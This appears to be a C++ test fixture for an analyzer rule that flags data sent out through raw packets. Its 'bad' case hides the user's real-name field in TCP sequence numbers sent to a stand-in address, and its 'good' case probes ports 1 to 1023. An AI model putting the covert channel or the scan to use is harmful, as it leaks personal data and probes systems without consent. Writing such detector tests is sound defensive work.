/* C++: segments with made-up headers carry the user's name; or a signature of the measurement. */
#include <arpa/inet.h>
#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <netinet/in.h>
#include <pwd.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

struct Segment {
    std::uint16_t from, to;
    std::uint32_t sequence, acknowledged;
    unsigned char rest[12];
};

class Wire {
  public:
    explicit Wire(const char *where) : out(socket(AF_INET, SOCK_RAW, IPPROTO_TCP)) {
        peer.sin_family = AF_INET;
        peer.sin_addr.s_addr = inet_addr(where);
    }
    ~Wire() {
        close(out);
    }

  protected:
    sockaddr_in peer{};
    int out;
};

struct Hidden : Wire {
    Hidden() : Wire("203.0.113.18") {}
    void put(const char *text) {
        for (std::size_t i = 0; i + 4 <= std::strlen(text); i += 4) {
            Segment segment{};
            std::memcpy(&segment.sequence, text + i, 4);
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/raw-packet]}}
            sendto(out, &segment, sizeof segment, 0, reinterpret_cast<sockaddr *>(&peer),
                   sizeof peer);
        }
    }
};

struct Probe : Wire {
    explicit Probe(const char *where) : Wire(where) {}
    void put(std::uint16_t port) {
        Segment segment{};
        segment.to = htons(port);
        segment.sequence = static_cast<std::uint32_t>(std::rand());
        sendto(out, &segment, sizeof segment, 0, reinterpret_cast<sockaddr *>(&peer), sizeof peer);
    }
};

} // namespace

void bad_segments() {
    const passwd *user = getpwuid(getuid());
    Hidden hidden;
    if (user)
        hidden.put(user->pw_gecos);
}

void good_segments(const char *where) {
    Probe probe(where);
    for (std::uint16_t port = 1; port < 1024; port++)
        probe.put(port);
}
